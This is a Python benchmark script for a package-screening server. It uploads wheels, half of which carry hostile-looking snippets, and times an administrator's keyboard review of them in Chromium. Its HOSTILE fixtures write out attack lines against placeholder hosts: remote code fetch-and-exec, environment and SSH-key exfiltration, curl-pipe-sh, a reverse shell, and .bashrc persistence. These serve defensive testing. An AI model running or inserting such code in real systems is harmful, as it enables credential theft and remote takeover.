"""What a verdict costs a reviewer: keys, what is in sight, how long the server takes (WEB.md, "Administrator review").

    bench/review.py [--cases N] [--open N] [--quick]

A fresh data directory and the real `bonded serve`. N wheels (200, half of them with a hostile part among ordinary code, all
imitations that do nothing) are uploaded and screened under a policy that holds every one; N more open cases (10,000) are
written into the database, so that the queue is long. A script then walks the first N cases in Chromium by single keys: evidence,
verdict, next case. It knows which ones are hostile; how fast a person would know is not measured.
"""

from __future__ import annotations

import argparse
import os
import random
import re
import secrets
import sqlite3
import statistics
import sys
import tempfile
import textwrap
import time
from dataclasses import dataclass, field
from pathlib import Path

from playwright.sync_api import Page, sync_playwright

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench.server import Server, command, row, serving, with_person
from bench.upload import upload, wheel_of

VAR = Path(__file__).resolve().parent.parent / "var"
POLICY = "fitted = true\n\n[thresholds]\nreview = 0.005\nreject = 1.0\n"
VIEW = {"width": 1280, "height": 800}
AIMS = {"keys": 6.0, "above_fold": 0.95, "page_p95": 0.3}
HOSTILE = (
    "import base64\nexec(base64.b64decode('cHJpbnQoJ2hlbGxvJyk='))\n",
    "import urllib.request\nexec(urllib.request.urlopen('https://a.example.invalid/x.py').read())\n",
    "import os, json, urllib.request\nurllib.request.urlopen('https://b.example.invalid/', json.dumps(dict(os.environ)).encode())\n",
    "import os\nos.system('curl -s https://c.example.invalid/i.sh | sh')\n",
    "import subprocess\nsubprocess.Popen('powershell -w hidden -enc ZQBjAGgAbwA=', shell=True)\n",
    (
        "import socket, subprocess, os\ns = socket.socket()\ns.connect(('d.example.invalid', 4444))\nos.dup2(s.fileno(), 0)\n"
        "os.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n"
    ),
    "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl https://e.example.invalid/x | sh\\n')\n",
    (
        "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        "urllib.request.urlopen('https://f.example.invalid/', key.encode())\n"
    ),
)
ORDINARY = (
    "import subprocess\n\n\ndef revision():\n    return subprocess.run(['git', 'rev-parse', 'HEAD'], capture_output=True).stdout\n",
    "import urllib.request\n\n\ndef fetch(url):\n    with urllib.request.urlopen(url) as answer:\n        return answer.read()\n",
    "import base64\n\n\ndef unpack(text):\n    return base64.b64decode(text)\n",
    "import os\n\nHOME = os.environ.get('HOME', '')\n",
)
IN_SIGHT = """() => {
  const card = document.querySelector('article.evidence');
  if (!card) return false;
  const shown = card.querySelector('.hit') ?? card.querySelector('header');
  const box = shown.getBoundingClientRect();
  return box.top >= 0 && box.bottom <= innerHeight;
}"""
TOOK = "() => { const n = performance.getEntriesByType('navigation')[0]; return n.responseEnd - n.requestStart; }"


@dataclass
class Walk:
    """What the walk saw: keys of each case, whether its evidence was in sight, seconds of each page."""

    keys: list[int] = field(default_factory=list)
    seen: list[bool] = field(default_factory=list)
    pages: list[float] = field(default_factory=list)


def code(rng: random.Random, part: str) -> str:
    """A module of ordinary functions with `part` somewhere between them."""
    functions = [
        textwrap.dedent(f'''
            def part_{n}(values):
                """Sum of what is over {n}."""
                return sum(value for value in values if value > {n})
            ''')
        for n in range(rng.randrange(3, 60))
    ]
    functions.insert(rng.randrange(len(functions)), "\n\n" + part)
    return "\n".join(functions)


def make(count: int, seed: str) -> list[tuple[str, str]]:
    """(project, code): every second one hostile, named so that the script knows."""
    rng = random.Random(seed)
    return [
        (f"{'bad' if n % 2 else 'good'}-{seed}-{n:03d}", code(rng, rng.choice(HOSTILE if n % 2 else ORDINARY)))
        for n in range(count)
    ]


def fill(database: Path, count: int) -> None:
    """`count` more open cases of score 0, behind those of the walk."""
    now = int(time.time() * 1_000_000)
    with sqlite3.connect(database) as db:
        for n in range(count):
            project = f"fill{n}"
            db.execute(
                "INSERT INTO project (id, key, name, twin, status, status_reason, deleted, last_journal_id, created_at)"
                " VALUES (?, ?, ?, ?, 'active', '', 0, 0, ?)",
                (project, project, project, project, now),
            )
            db.execute(
                "INSERT INTO review_case (project_id, state, score, headline, opened_at) VALUES (?, 'open', 0.0, 'of the benchmark', ?)",
                (project, now),
            )


def settle(database: Path, wanted: int) -> None:
    """Wait until every upload is held."""
    end = time.monotonic() + 600
    while time.monotonic() < end:
        with sqlite3.connect(database) as db:
            held = db.execute("SELECT count(*) FROM file WHERE state = 'held'").fetchone()[0]
        if held >= wanted:
            return
        time.sleep(0.5)
    raise SystemExit(f"only {held} of {wanted} uploads were held within ten minutes")


def log_in(page: Page, base: str, password: str) -> None:
    page.goto(f"{base}account/login/")
    page.get_by_label("User name").fill("reviewer")
    page.get_by_label("Password").fill(password)
    page.get_by_role("button", name="Log in").click()
    page.wait_for_url("**/account/**")


def walk(server: Server, password: str, count: int) -> Walk:
    """From the queue through `count` cases by keys."""
    base, seen = f"http://127.0.0.1:{server.port}/", Walk()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=["--no-sandbox"])
        page = browser.new_page(viewport=VIEW, reduced_motion="reduce")
        page.set_default_timeout(60_000)
        log_in(page, base, password)
        page.goto(f"{base}admin/review/")
        page.wait_for_selector("[data-queue-target=hint]:not([hidden])")
        seen.pages.append(page.evaluate(TOOK) / 1000)
        keys = press(page, "j") + press(page, "Enter")
        page.wait_for_url(re.compile(r"/admin/review/\d+/$"))
        for _ in range(count):
            keys = decide(page, seen, keys)
        browser.close()
    return seen


def decide(page: Page, seen: Walk, keys: int) -> int:
    """One case: look, decide, and be at the next one. Returns 0, the keys spent on that one so far."""
    page.wait_for_selector("[data-case-target=hint]:not([hidden])")
    seen.pages.append(page.evaluate(TOOK) / 1000)
    seen.seen.append(bool(page.evaluate(IN_SIGHT)))
    here, name = page.url, page.locator("h1").inner_text()
    keys += press(page, "j" if name.startswith("bad") else "l") + press(page, "Enter")
    page.wait_for_url(lambda url: url != here)
    seen.keys.append(keys)
    return 0


def press(page: Page, key: str) -> int:
    page.keyboard.press(key)
    return 1


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--cases", type=int, default=200)
    parser.add_argument("--open", type=int, default=10_000)
    parser.add_argument("--quick", action="store_true", help="20 cases of 1,000")
    args = parser.parse_args()
    count, rest = (20, 1_000) if args.quick else (args.cases, args.open)
    VAR.mkdir(exist_ok=True)
    password = secrets.token_urlsafe(20)
    with tempfile.TemporaryDirectory(dir=VAR) as where:
        data = Path(where) / "data"
        token = with_person(data)
        (data / "policy.toml").write_text(POLICY)
        os.environ["BONDED_SCREENING__POLICY"] = str(data / "policy.toml")
        words = ("reviewer", "--email", "reviewer@example.invalid", "--admin", "--password-stdin", "--dir", str(data))
        command("user", "create", *words, given=password + "\n")
        with serving(data) as server:
            some = [
                wheel_of(name, "1.0", {"__init__.py": text.encode()})
                for name, text in make(count, secrets.token_hex(2))
            ]
            upload(server.port, token, some)
            settle(data / "bonded.db", count)
            fill(data / "bonded.db", rest)
            seen = walk(server, password, count)
    told = {"cases": count, "open": rest + count, "view": f"{VIEW['width']}x{VIEW['height']}"}
    row(
        "review.keys",
        told | {"median": statistics.median(seen.keys)},
        max(seen.keys),
        "keys",
        "limit",
        AIMS["keys"],
        "lower",
        0,
    )
    share = sum(seen.seen) / len(seen.seen)
    row("review.above_fold", told, share, "share", "limit", AIMS["above_fold"], "higher", 0)
    p95 = sorted(seen.pages)[max(0, -(-95 * len(seen.pages) // 100) - 1)]
    row(
        "review.page_p95",
        told | {"median": statistics.median(seen.pages)},
        p95,
        "s",
        "limit",
        AIMS["page_p95"],
        "lower",
        0,
    )


if __name__ == "__main__":
    main()
